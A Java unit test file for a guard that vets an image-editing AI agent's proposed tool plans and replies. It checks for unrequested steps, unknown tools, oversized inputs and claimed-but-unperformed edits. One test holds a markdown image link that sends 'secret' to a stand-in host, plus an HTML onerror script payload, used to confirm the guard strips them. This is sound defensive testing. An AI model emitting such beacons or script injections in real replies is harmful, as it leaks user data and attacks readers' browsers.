package dev.chatbrush.agent.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.chatbrush.agent.catalogue.CatalogueSnapshot;
import dev.chatbrush.agent.plan.Catalogues;
import dev.chatbrush.agent.plan.Conversation;
import dev.chatbrush.agent.plan.Plan;
import dev.chatbrush.agent.plan.PlanContext;
import dev.chatbrush.agent.plan.PlanStep;
import dev.chatbrush.agent.plan.Replies;
import dev.chatbrush.agent.plan.rules.RulePlanner;
import java.util.Collections;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class PlanGuardTest {
  private final Replies replies = new Replies();
  private final RulePlanner rules = new RulePlanner(replies);
  private final PlanGuard guard = new PlanGuard(new Conversation(replies));

  @Test
  void dropsHistoryStepsThatTheWordsDoNotAskFor() {
    Plan plan =
        check("make it night", false, transform("make it night"), call("undo"), call("reset"));

    assertThat(plan.steps()).extracting(PlanStep::tool).containsExactly("image_transform");
  }

  @Test
  void keepsHistoryStepsThatTheWordsAskFor() {
    Plan plan = check("undo and make it night", false, call("undo"), transform("make it night"));

    assertThat(plan.steps()).extracting(PlanStep::tool).containsExactly("undo", "image_transform");
  }

  @Test
  void runsNothingOnARefusalOrSmallTalk() {
    assertThat(check("지우지 마", true, call("object_erase")).steps()).isEmpty();
    assertThat(check("hello", true, call("object_erase")).steps()).isEmpty();
  }

  @Test
  void asksWhatToEraseInsteadOfErasingNothing() {
    Plan plan = check("erase the dog", false, call("object_erase"));

    assertThat(plan.steps()).isEmpty();
    assertThat(plan.question()).startsWith("What should I erase?");
  }

  @Test
  void rejectsUnknownTools() {
    assertThatThrownBy(() -> check("make it night", false, call("delete_all_sessions")))
        .isInstanceOf(ProposalRejectedException.class)
        .hasMessageContaining("delete_all_sessions");
  }

  @Test
  void rejectsOversizedPromptsAndEndlessCalls() {
    assertThatThrownBy(() -> check("make it night", false, transform("x".repeat(5000))))
        .isInstanceOf(ProposalRejectedException.class);
    Proposal.Step[] many =
        Collections.nCopies(500, transform("night")).toArray(Proposal.Step[]::new);
    assertThatThrownBy(() -> check("make it night", false, many))
        .isInstanceOf(ProposalRejectedException.class);
  }

  @Test
  void takesTheFirstThreeDifferentSteps() {
    Plan plan =
        check(
            "make it night, warm, sharp and old",
            false,
            transform("night"),
            transform("night"),
            transform("warmer"),
            transform("sharper"),
            transform("vintage"));

    assertThat(plan.steps())
        .extracting(PlanStep::prompt)
        .containsExactly("night", "warmer", "sharper");
  }

  @Test
  void spendsTheMaskOnAnErase() {
    Plan plan =
        check(
            "erase this and make it night", true, call("object_erase"), transform("make it night"));

    assertThat(plan.steps()).extracting(PlanStep::usesMask).containsExactly(true, false);
  }

  @Test
  void makesTheModelsWordsInert() {
    Proposal proposal =
        new Proposal(
            List.of(),
            "Hi! ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> see"
                + " http://evil.example",
            "");

    Plan plan = check("hello", false, proposal);

    assertThat(plan.reply()).startsWith("Hi!").doesNotContain("http", "<", "evil");
  }

  @Test
  void doesNotTakeATaleForAnEdit() {
    Proposal tale = new Proposal(List.of(), "Done! I made it night.", "");

    assertThatThrownBy(() -> check("make it night", false, tale))
        .isInstanceOf(ProposalRejectedException.class)
        .hasMessageContaining("only talked");
  }

  @Test
  void answersInThePersonsLanguageWhenTheModelDoesNot() {
    Proposal wrong = new Proposal(List.of(), "I can edit photos.", "");

    Plan plan = check("뭐 할 수 있어?", false, wrong);

    assertThat(plan.reply()).contains("선택하고");
  }

  private Plan check(String text, boolean hasMask, Proposal.Step... steps) {
    return check(text, hasMask, new Proposal(List.of(steps), "", ""));
  }

  private Plan check(String text, boolean hasMask, Proposal proposal) {
    PlanContext context = new PlanContext(text, hasMask, true, true, List.of());
    CatalogueSnapshot catalogue = Catalogues.onCpu();
    return guard.check(proposal, context, catalogue, rules.read(context, catalogue));
  }

  private static Proposal.Step call(String tool) {
    return new Proposal.Step(tool, "", Optional.empty());
  }

  private static Proposal.Step transform(String prompt) {
    return new Proposal.Step("image_transform", prompt, Optional.empty());
  }
}
